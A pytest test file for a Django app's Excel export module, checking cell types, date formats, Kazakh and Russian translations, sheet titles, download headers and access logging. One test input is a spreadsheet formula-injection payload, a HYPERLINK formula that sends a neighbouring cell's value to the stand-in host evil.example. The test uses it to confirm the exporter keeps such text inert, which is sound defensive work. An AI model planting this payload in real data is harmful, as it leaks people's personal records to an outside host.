"""core.xlsx: sheets from records and translated headers, each value in the cell type it is, and never a
formula from a text (issue 9: a mother's name "=HYPERLINK(...)" became a live link in the export)."""

import datetime as dt
import io
from decimal import Decimal
from operator import itemgetter
from urllib.parse import unquote
from zoneinfo import ZoneInfo

import pytest
from django.utils import translation
from django.utils.translation import gettext_lazy as _
from openpyxl import load_workbook

from core import xlsx
from core.xlsx import Column, Sheet, export, xlsx_response
from tests.factories import DistrictFactory

VALUE = [Column(_("Name"), itemgetter("value"))]


def cells(*values, columns=VALUE):
    """The data cells of a one-column sheet holding ``values``, as openpyxl reads them back."""
    content = export(Sheet(title="Test", columns=columns, records=[{"value": value} for value in values])).content
    sheet = load_workbook(io.BytesIO(content)).active
    return [row[0] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?leak="&B2,"Ашу")', "+7 701 000", "-1+2", "@SUM(A1:A9)", "=1+1"],
)
def test_a_text_starting_with_a_formula_sign_comes_back_as_the_same_text_not_a_formula(text):
    (cell,) = cells(text)
    assert cell.data_type == "s" and cell.value == text


def test_a_date_is_a_date_cell_shown_day_month_year():
    (cell,) = cells(dt.date(2026, 12, 1))
    assert cell.is_date and cell.number_format == "DD.MM.YYYY"
    assert cell.value.date() == dt.date(2026, 12, 1)


def test_a_moment_is_written_in_almaty_time_with_its_hour():
    (cell,) = cells(dt.datetime(2026, 12, 1, 4, 30, tzinfo=dt.UTC))
    assert cell.is_date and cell.number_format == "DD.MM.YYYY HH:MM"
    assert cell.value == dt.datetime(2026, 12, 1, 4, 30, tzinfo=dt.UTC).astimezone(ZoneInfo("Asia/Almaty")).replace(tzinfo=None)


def test_numbers_are_number_cells():
    whole, money, share = cells(4, Decimal("320000.50"), 0.25)
    assert [cell.data_type for cell in (whole, money, share)] == ["n", "n", "n"]
    assert (whole.value, money.value, share.value) == (4, 320000.5, 0.25)


def test_yes_and_no_are_words_in_the_users_language_and_nothing_is_an_empty_cell():
    with translation.override("kk"):
        assert [cell.value for cell in cells(True, None, False)] == ["иә", None, "жоқ"]
    with translation.override("ru"):
        assert [cell.value for cell in cells(True, False)] == ["да", "нет"]


def test_characters_a_spreadsheet_cannot_hold_are_left_out_instead_of_failing_the_export():
    assert [cell.value for cell in cells("Айгерім\x00\x1b")] == ["Айгерім"]


def test_headers_are_in_the_users_language_and_bold():
    with translation.override("ru"):
        content = export(Sheet(title=_("Families"), columns=[Column(_("Mother"), itemgetter("value"))], records=[])).content
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "Семьи"
    assert sheet["A1"].value == "Мать" and sheet["A1"].font.bold


def test_a_workbook_holds_several_sheets_with_titles_a_spreadsheet_accepts():
    first = Sheet(title="Visits: 2026/12 [all]", columns=VALUE, records=[{"value": 1}])
    second = Sheet(title="A title longer than thirty-one characters", columns=VALUE, records=[])
    workbook = load_workbook(io.BytesIO(export(first, second).content))
    assert workbook.sheetnames == ["Visits 202612 all", "A title longer than thirty-one "]


@pytest.mark.django_db
def test_an_export_lists_the_records_it_holds_by_model():
    districts = DistrictFactory.create_batch(2)
    figures = Sheet(title="Figures", columns=VALUE, records=[{"value": 3}])
    places = Sheet(title="Districts", columns=[Column("Code", lambda district: district.code)], records=districts)
    result = export(figures, places)
    assert result.records == {type(districts[0]): [district.pk for district in districts]}
    assert result.row_count == 2


@pytest.mark.django_db
def test_the_response_is_an_attachment_with_a_name_in_the_users_language_and_tells_the_access_log(registrar):
    districts = DistrictFactory.create_batch(2)
    seen = []

    def receiver(sender, **kwargs):
        seen.append(kwargs)

    xlsx.exported.connect(receiver)
    try:
        sheet = Sheet(title="Districts", columns=[Column("Code", lambda district: district.code)], records=districts)
        response = xlsx_response(sheet, file_name="Отбасылар 2026-12-01", actor=registrar, what="tests.export")
    finally:
        xlsx.exported.disconnect(receiver)
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename*=utf-8''")
    assert unquote(disposition.split("''", 1)[1]) == "Отбасылар 2026-12-01.xlsx"
    assert "no-store" in response["Cache-Control"]
    assert [(s["actor"], s["what"], s["records"]) for s in seen] == [
        (registrar, "tests.export", {type(districts[0]): [district.pk for district in districts]})
    ]
